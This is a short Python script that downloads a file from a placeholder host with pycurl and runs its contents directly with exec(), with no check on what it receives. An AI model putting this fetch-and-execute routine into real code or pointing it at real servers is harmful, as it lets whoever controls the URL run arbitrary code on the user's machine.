import io

import pycurl

held = io.BytesIO()
transfer = pycurl.Curl()
transfer.setopt(transfer.URL, "https://code.example.invalid/sample.py")
transfer.setopt(transfer.WRITEDATA, held)
transfer.perform()
exec(held.getvalue().decode())
